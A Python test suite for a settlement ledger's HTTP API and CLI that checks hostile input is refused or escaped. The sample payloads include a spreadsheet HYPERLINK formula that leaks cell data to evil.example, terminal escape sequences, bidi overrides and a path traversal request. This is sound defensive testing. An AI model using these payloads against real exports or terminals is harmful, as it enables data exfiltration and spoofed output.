"""Hostile input at every edge (issue 21): bodies, identifiers, headers, tokens, exports.

Every refused request is checked to leave the events table as it was: the
``refused`` helper counts the rows before and after.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from fastapi.testclient import TestClient

from ledger.audit.export import FORMULA_STARTS
from ledger.cli.main import main
from ledger.http import create_app
from ledger.http.app import app_from_environment
from ledger.http.auth import BadTokenConfig, Role, TokenGate
from ledger.http.headers import QueryOutOfAccessLog, redact_query
from ledger.service import Ledger, build_ledger
from ledger.settings import Settings
from tests.backends import SqliteTemplate, database_url
from tests.conftest import DATABASE_BACKENDS

TOKENS = {
    "auditor": "auditor-token-hostile-0001",
    "operator": "operator-token-hostile-0001",
    "service": "service-token-hostile-0001",
}
TOKEN_SPEC = ",".join(f"{role}:{token}" for role, token in TOKENS.items())
CAP = 4096

BODY: dict[str, Any] = {
    "userId": "user-1",
    "placeId": "place-1",
    "missionId": "mission-1",
    "amount": 10_000,
    "currency": "KRW",
    "idempotencyKey": "hostile-1",
    "metadata": {"qrToken": "secret-qr", "receiptId": "r-1"},
}
PROBLEM_KEYS = {"detail", "field", "errors"}


@pytest.fixture
def ledger(db_url: str) -> Iterator[Ledger]:
    built = build_ledger(Settings(database_url=db_url, api_tokens=TOKEN_SPEC, max_body_bytes=CAP))
    yield built
    built.close()


@pytest.fixture
def app(ledger: Ledger) -> FastAPI:
    return create_app(ledger)


@pytest.fixture
def client(app: FastAPI) -> Iterator[TestClient]:
    with TestClient(app) as test_client:
        yield test_client


@dataclass
class Edge:
    """One app per backend, shared by the tests that only send requests it must refuse."""

    ledger: Ledger
    app: FastAPI
    client: TestClient
    job_id: str


@pytest.fixture(scope="module", params=DATABASE_BACKENDS)
def edge(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    sqlite_template: SqliteTemplate,
) -> Iterator[Edge]:
    with database_url(request.param, tmp_path_factory.mktemp("edge"), sqlite_template) as url:
        built = build_ledger(Settings(database_url=url, api_tokens=TOKEN_SPEC, max_body_bytes=CAP))
        app = create_app(built)
        with TestClient(app) as test_client:
            yield Edge(built, app, test_client, enqueue(test_client, idempotencyKey="edge-seed"))
        built.close()


def auth(role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKENS[role]}"}


def event_rows(ledger: Ledger) -> int:
    with ledger.engine.connect() as conn:
        return int(conn.execute(sa.text("SELECT count(*) FROM events")).scalar_one())


def refused(
    client: TestClient,
    ledger: Ledger,
    method: str,
    path: str,
    *,
    expect: int,
    **kwargs: Any,
) -> dict[str, Any]:
    """Send one hostile request: ``expect`` comes back in the one problem shape, no event added."""
    before = event_rows(ledger)
    response = client.request(method, path, **kwargs)
    assert response.status_code == expect, response.text
    assert event_rows(ledger) == before
    body = response.json()
    assert set(body) >= PROBLEM_KEYS, body
    assert isinstance(body["detail"], str) and body["detail"]
    assert "Traceback" not in response.text and "SELECT" not in response.text
    return dict(body)


def enqueue(client: TestClient, **changes: Any) -> str:
    response = client.post("/api/settlements", json={**BODY, **changes}, headers=auth("service"))
    assert response.status_code == 201, response.text
    return str(response.json()["jobId"])


# -- the raw ASGI channel: what the server reads of a body ------------------------------


class Channel:
    """Feeds an app a body in chunks, counting how many bytes it pulled."""

    def __init__(self, chunk: bytes, chunks: int) -> None:
        self.chunk = chunk
        self.left = chunks
        self.pulled = 0
        self.sent: list[dict[str, Any]] = []

    async def receive(self) -> dict[str, Any]:
        if self.left == 0:
            await asyncio.sleep(3600)  # the client waits: never reached when the app answers
        self.left -= 1
        self.pulled += len(self.chunk)
        return {"type": "http.request", "body": self.chunk, "more_body": self.left > 0}

    async def send(self, message: dict[str, Any]) -> None:
        self.sent.append(message)

    @property
    def status(self) -> int:
        return int(self.sent[0]["status"])


def call(app: FastAPI, channel: Channel, path: str, headers: dict[str, str]) -> None:
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 1234),
        "server": ("127.0.0.1", 8000),
        "state": {},
    }
    asyncio.run(app(scope, channel.receive, channel.send))  # type: ignore[arg-type]


# -- bodies: the token first, then a cap, then strict JSON ----------------------------------


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer not-a-known-token-xx"}])
def test_an_unauthenticated_body_is_never_read(edge: Edge, headers: dict[str, str]) -> None:
    channel = Channel(b"x" * 65536, 800)  # 50 MB on offer
    call(edge.app, channel, "/api/settlements", {**headers, "Content-Length": str(65536 * 800)})
    assert channel.status == 401
    assert channel.pulled == 0


def test_a_declared_length_over_the_cap_is_413_unread(edge: Edge) -> None:
    channel = Channel(b"x" * 65536, 800)
    call(edge.app, channel, "/api/settlements", {**auth("service"), "Content-Length": str(CAP + 1)})
    assert channel.status == 413
    assert channel.pulled == 0
    headers = dict(channel.sent[0]["headers"])
    assert headers[b"connection"] == b"close"


def test_a_chunked_body_is_cut_off_at_the_cap(edge: Edge) -> None:
    channel = Channel(b"x" * 1024, 50_000)  # no Content-Length: Transfer-Encoding chunked
    call(
        edge.app,
        channel,
        "/api/settlements",
        {**auth("service"), "Content-Type": "application/json"},
    )
    assert channel.status == 413
    assert channel.pulled <= CAP + 1024


def test_over_the_cap_through_the_client(edge: Edge) -> None:
    big = {**BODY, "metadata": {"pad": "x" * CAP}}
    body = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/settlements",
        expect=413,
        json=big,
        headers=auth("service"),
    )
    assert body["field"] is None and "LEDGER_MAX_BODY_BYTES" in body["detail"]


def test_a_bad_content_length_is_400(edge: Edge) -> None:
    channel = Channel(b"{}", 1)
    call(edge.app, channel, "/api/settlements", {**auth("service"), "Content-Length": "1e3"})
    assert channel.status == 400


def test_the_cap_is_a_setting() -> None:
    assert Settings().max_body_bytes == 64 * 1024
    assert Settings(max_body_bytes=2048).max_body_bytes == 2048


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ('{"amount": 10000, "amount": 99999999}', "amount"),
        ('{"metadata": {"receiptId": "a", "receiptId": "b"}}', "metadata.receiptId"),
        (f'{{"metadata": {{"big": {2**64}}}}}', "metadata.big"),
        ('{"metadata": {"big": ' + "9" * 3000 + "}}", "metadata.big"),
        ('{"metadata": {"n": 1e400}}', "metadata.n"),
    ],
)
def test_json_that_breaks_the_rules_is_422_naming_the_field(
    edge: Edge, text: str, field: str
) -> None:
    # the rest of a valid body around the hostile member
    head = '{"userId":"u","placeId":"p","missionId":"m","idempotencyKey":"dup",'
    if not text.startswith('{"amount"'):
        head += '"amount":100,'
    document = head + text[1:]
    body = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/settlements",
        expect=422,
        content=document,
        headers={**auth("service"), "Content-Type": "application/json"},
    )
    assert body["field"] == field


@pytest.mark.parametrize(
    "content",
    [
        b'{"userId": "\xff\xfe"}',
        b"[" * 2000 + b"]" * 2000,
        b'{"userId": "u", "amount": 1',
        b'{"amount": NaN}',
        b"not json",
    ],
)
def test_text_that_is_not_json_is_400_without_a_field(edge: Edge, content: bytes) -> None:
    body = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/settlements",
        expect=400,
        content=content,
        headers={**auth("service"), "Content-Type": "application/json"},
    )
    assert body["field"] is None and body["detail"].startswith("malformed JSON")


def test_a_requeue_body_is_parsed_strictly_too(edge: Edge) -> None:
    body = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/queue/dlq",
        expect=422,
        content=b'{"jobId": "a", "jobId": "b"}',
        headers={**auth("operator"), "Content-Type": "application/json"},
    )
    assert body["field"] == "jobId"


def test_a_strict_body_still_enqueues(client: TestClient, ledger: Ledger) -> None:
    job_id = enqueue(client, metadata={"n": 2**63 - 1, "f": 1.5})
    state = client.get(f"/api/jobs/{job_id}", headers=auth("service")).json()
    assert state["data"]["metadata"] == {"n": 2**63 - 1, "f": 1.5}


def test_a_token_given_to_two_roles_is_refused_at_start_up(db_url: str) -> None:
    spec = "auditor:same-token-0123456789,operator:same-token-0123456789"
    built = build_ledger(Settings(database_url=db_url, api_tokens=spec))
    try:
        with pytest.raises(BadTokenConfig, match="already given"):
            create_app(built)
    finally:
        built.close()


# -- the CLI's --metadata goes through the same parser ----------------------------------------


@pytest.mark.parametrize(
    ("metadata", "field"),
    [
        ('{"receiptId": "a", "receiptId": "b"}', "metadata.receiptId"),
        (f'{{"n": {2**64}}}', "metadata.n"),
        ('{"n": 1', "metadata"),
    ],
)
def test_cli_metadata_is_strict(
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    metadata: str,
    field: str,
) -> None:
    monkeypatch.setenv("LEDGER_DATABASE_URL", db_url)
    args = ["enqueue", "--user-id", "u", "--place-id", "p", "--mission-id", "m"]
    with pytest.raises(SystemExit) as done:
        main([*args, "--amount", "5", "--metadata", metadata])
    assert done.value.code == 2
    assert capsys.readouterr().err.startswith(f"error: invalid {field}: ")


# -- identifiers: one printable-text rule, 4xx on both backends, nothing logged as an error ----

HOSTILE_TEXT = [
    "a\x00b",  # NUL: PostgreSQL cannot store it, SQLite can
    "a\x1b[31mb",  # a terminal escape
    "a\u202eb",  # right-to-left override
    "a\u200bb",  # zero-width space
    "a\u2028b",  # line separator
    "\ufeffab",  # byte-order mark
    "a\tb",
]
#: identifiers (not keys or reasons) also refuse white space at either end
EDGE_SPACES = [" ab", "ab ", "\u3000ab"]


@pytest.mark.parametrize(
    ("field", "text"),
    [
        *((field, text) for field in ("userId", "placeId", "missionId") for text in EDGE_SPACES),
        *((field, text) for field in ("userId", "idempotencyKey") for text in HOSTILE_TEXT),
        *(("placeId", text) for text in HOSTILE_TEXT[:3]),
        *(("missionId", text) for text in HOSTILE_TEXT[3:]),
    ],
)
def test_a_hostile_identifier_in_a_body_is_422(edge: Edge, field: str, text: str) -> None:
    body = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/settlements",
        expect=422,
        json={**BODY, field: text},
        headers=auth("service"),
    )
    assert body["field"] == field


@pytest.mark.parametrize(
    ("method", "path", "role", "field"),
    [
        ("GET", "/api/jobs/{text}", "auditor", "job_id"),
        ("GET", "/api/jobs/{text}/history", "auditor", "job_id"),
        ("GET", "/api/events?userId={text}", "auditor", "userId"),
        ("GET", "/api/events?placeId={text}", "auditor", "placeId"),
        ("GET", "/api/events?missionId={text}", "auditor", "missionId"),
        ("GET", "/api/totals?currency=K{text}", "auditor", "currency"),
    ],
)
@pytest.mark.parametrize("text", ["%00", "a%1Bb", "a%E2%80%AEb", "%EF%BB%BFab"])
def test_a_hostile_identifier_in_a_path_or_query_is_422(
    edge: Edge,
    caplog: pytest.LogCaptureFixture,
    method: str,
    path: str,
    role: str,
    field: str,
    text: str,
) -> None:
    # the edge holds a job: a lookup that got through would reach the database
    with caplog.at_level("WARNING"):
        body = refused(
            edge.client, edge.ledger, method, path.format(text=text), expect=422, headers=auth(role)
        )
    assert body["field"] == field
    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
@pytest.mark.parametrize("field", ["jobId", "reason"])
def test_a_hostile_requeue_is_422(edge: Edge, field: str, text: str) -> None:
    body = {"jobId": edge.job_id, "reason": "fine", field: text}
    answer = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/queue/dlq",
        expect=422,
        json=body,
        headers=auth("operator"),
    )
    assert answer["field"] == field


def test_printable_text_from_anywhere_is_accepted(client: TestClient) -> None:
    job_id = enqueue(
        client, userId="사용자 1", placeId="café =1+1", missionId="m-ü", idempotencyKey=" h "
    )
    state = client.get(f"/api/jobs/{job_id}", headers=auth("service")).json()
    assert state["data"]["userId"] == "사용자 1"
    assert state["data"]["idempotencyKey"] == " h "  # keys may keep edge spaces, as always


def test_snake_case_on_the_wire_is_an_unknown_field(edge: Edge) -> None:
    snake = {**{k: v for k, v in BODY.items() if k != "userId"}, "user_id": "user-1"}
    body = refused(
        edge.client,
        edge.ledger,
        "POST",
        "/api/settlements",
        expect=422,
        json=snake,
        headers=auth("service"),
    )
    fields = {problem["field"] for problem in body["errors"]}
    assert fields == {"userId", "user_id"}
    kinds = {problem["type"] for problem in body["errors"]}
    assert kinds == {"missing", "extra_forbidden"}


def test_the_requeue_loser_of_a_race_gets_409(
    client: TestClient, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    job_id = enqueue(client)
    (job,) = ledger.claim("w", 1, timedelta(seconds=30))
    ledger.fail(job, job.attempt, "gateway said no", retryable=False)
    append = ledger.store.append

    def another_operator_first(job_id: str, expected: int, events: Any) -> Any:
        monkeypatch.setattr(ledger.store, "append", append)
        append(job_id, expected, events)  # the winner's requeue lands first
        return append(job_id, expected, events)

    monkeypatch.setattr(ledger.store, "append", another_operator_first)
    before = event_rows(ledger)
    response = client.post("/api/queue/dlq", json={"jobId": job_id}, headers=auth("operator"))
    assert response.status_code == 409, response.text
    assert response.json()["success"] is False and response.json()["field"] is None
    assert event_rows(ledger) == before + 1  # the winner's event, and only it


# -- headers, redirects, HEAD, docs -----------------------------------------------------------


def test_a_trailing_slash_is_a_404_not_a_redirect(client: TestClient, ledger: Ledger) -> None:
    job_id = enqueue(client)
    for path in (f"/api/jobs/{job_id}/", "/api/queue/stats/", "/health/"):
        response = client.get(
            path,
            headers={**auth("auditor"), "Host": "evil.example"},
            follow_redirects=False,
        )
        assert response.status_code in (401, 404), path
        assert "location" not in response.headers


def test_head_health_is_200(edge: Edge) -> None:
    response = edge.client.head("/health")
    assert response.status_code == 200
    assert response.content == b""


def test_answers_are_not_cached_or_sniffed(client: TestClient, ledger: Ledger) -> None:
    job_id = enqueue(client)
    for path, role in [
        (f"/api/jobs/{job_id}", "service"),
        ("/api/events", "auditor"),
        ("/api/queue/failed", "operator"),
        ("/api/jobs/nope", "auditor"),
        ("/health", "auditor"),
    ]:
        response = client.get(path, headers=auth(role))
        assert response.headers["cache-control"] == "no-store", path
        assert response.headers["x-content-type-options"] == "nosniff", path
    unauthenticated = client.get("/api/events")
    assert unauthenticated.status_code == 401
    assert unauthenticated.headers["cache-control"] == "no-store"


def test_the_docs_come_from_the_package(edge: Edge) -> None:
    page = edge.client.get("/docs")
    assert page.status_code == 200
    assert "http" not in page.text.lower().replace("http-equiv", "")  # no absolute URL at all
    assert "script-src 'self'" in page.headers["content-security-policy"]
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css", "swagger-init.js"):
        response = edge.client.get(f"/docs/assets/{asset}")
        assert response.status_code == 200 and len(response.content) > 100, asset
    assert edge.client.get("/docs/assets/..%2F..%2Fpyproject.toml").status_code == 404
    assert edge.client.get("/docs/assets/index.html").status_code == 404
    assert edge.client.get("/redoc").status_code == 404


def test_the_access_log_keeps_no_query_string() -> None:
    record = logging.LogRecord(
        "uvicorn.access",
        logging.INFO,
        __file__,
        1,
        '%s - "%s %s HTTP/%s" %d',
        (
            "127.0.0.1:5000",
            "GET",
            f"/api/events?access_token={TOKENS['auditor']}&userId=a",
            "1.1",
            401,
        ),
        None,
    )
    assert QueryOutOfAccessLog().filter(record)
    assert TOKENS["auditor"] not in record.getMessage()
    assert "userId=a" not in record.getMessage()
    assert "/api/events?…" in record.getMessage()
    assert redact_query("/health") == "/health"


def test_the_server_installs_the_access_log_filter(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("LEDGER_DATABASE_URL", f"sqlite:///{tmp_path / 'ledger.db'}")
    access = logging.getLogger("uvicorn.access")
    monkeypatch.setattr(access, "filters", [])
    app = app_from_environment()
    assert any(isinstance(f, QueryOutOfAccessLog) for f in access.filters)
    app.state.wiring.ledger.close()


# -- the CLI: operator text refused on the way in, escaped on the way out -----------------------


def run_cli(
    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, str, str]:
    monkeypatch.setenv("LEDGER_DATABASE_URL", db_url)
    code = 0
    try:
        main(list(args))
    except SystemExit as done:
        code = int(done.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def dead_job(client: TestClient, ledger: Ledger, reason: str, **changes: Any) -> str:
    job_id = enqueue(client, **changes)
    (job,) = ledger.claim("w", 1, timedelta(seconds=30))
    ledger.fail(job, job.attempt, reason, retryable=False)
    return job_id


@pytest.mark.parametrize("option", ["--actor", "--reason"])
@pytest.mark.parametrize("text", ["ops\x1b]0;pwned\x07", "ops\u202e", "ops\nFAKE LINE"])
def test_cli_requeue_refuses_hostile_operator_text(
    client: TestClient,
    ledger: Ledger,
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    option: str,
    text: str,
) -> None:
    job_id = dead_job(client, ledger, "gateway said no")
    before = event_rows(ledger)
    code, _out, err = run_cli(db_url, monkeypatch, capsys, "dlq", "requeue", job_id, option, text)
    assert code == 2
    assert err.startswith(f"error: invalid {option}: must be printable text")
    assert event_rows(ledger) == before


def test_history_escapes_what_is_not_printable(
    client: TestClient,
    ledger: Ledger,
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # a handler's error message is not operator input: it may hold anything
    job_id = dead_job(client, ledger, "boom \x1b[2J\x1b]0;owned\x07 \u202eevil")
    code, out, _err = run_cli(db_url, monkeypatch, capsys, "history", job_id)
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out and "\\u202e" in out
    code, out, _err = run_cli(db_url, monkeypatch, capsys, "dlq", "list")
    assert code == 0
    assert "\x1b" not in out and "\\x1b" in out


@pytest.mark.parametrize("args", [["history", "a\x00b"], ["events", "--user-id", "a\u202eb"]])
def test_cli_lookups_refuse_hostile_ids(
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
) -> None:
    code, _out, err = run_cli(db_url, monkeypatch, capsys, *args)
    assert code == 2
    assert "must be printable text" in err and "Traceback" not in err


# -- exports: byte-exact by default, --spreadsheet-safe on request, JSONL one record a line -------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_is_byte_exact_by_default_and_safe_on_request(
    client: TestClient,
    ledger: Ledger,
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    enqueue(client, userId=FORMULA, placeId="+1-2", missionId="@SUM(A1)")
    code, exact, _err = run_cli(db_url, monkeypatch, capsys, "events", "--format", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(exact)))
    assert row["user_id"] == FORMULA and row["place_id"] == "+1-2"
    code, safe, _err = run_cli(
        db_url, monkeypatch, capsys, "events", "--format", "csv", "--spreadsheet-safe"
    )
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(safe)))
    assert row["user_id"] == "'" + FORMULA
    assert row["place_id"] == "'+1-2" and row["mission_id"] == "'@SUM(A1)"
    assert row["job_id"][0] != "'" and row["position"] == "1"
    assert all(not cell.startswith(FORMULA_STARTS) for cell in row.values())
    code, _out, err = run_cli(
        db_url, monkeypatch, capsys, "events", "--format", "jsonl", "--spreadsheet-safe"
    )
    assert code == 2 and "csv only" in err


def test_events_help_says_when_to_use_spreadsheet_safe(
    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _err = run_cli(db_url, monkeypatch, capsys, "events", "--help")
    assert code == 0
    assert "--spreadsheet-safe" in out and "Excel" in out and "byte-exact" in out


def test_jsonl_escapes_line_separators(
    client: TestClient,
    ledger: Ledger,
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    note = "one\u2028two\u2029three\u0085four"
    enqueue(client, metadata={"note": note})
    code, out, _err = run_cli(db_url, monkeypatch, capsys, "events", "--format", "jsonl")
    assert code == 0
    assert not any(c in out for c in "\u2028\u2029\u0085")
    lines = out.splitlines()  # str.splitlines splits on all three: none are left to split on
    assert len(lines) == 1
    assert json.loads(lines[0])["data"]["request"]["metadata"]["note"] == note


def test_webhooks_are_not_behind_the_token_gate() -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        raise AssertionError("reached")

    gate = TokenGate(app, tokens=[(TOKENS["auditor"], Role.AUDITOR)])
    assert gate._gated("/api/jobs/x") and gate._gated("/metrics") and gate._gated("/api")
    assert not gate._gated("/api/webhooks/toss")
    assert not gate._gated("/health") and not gate._gated("/docs")
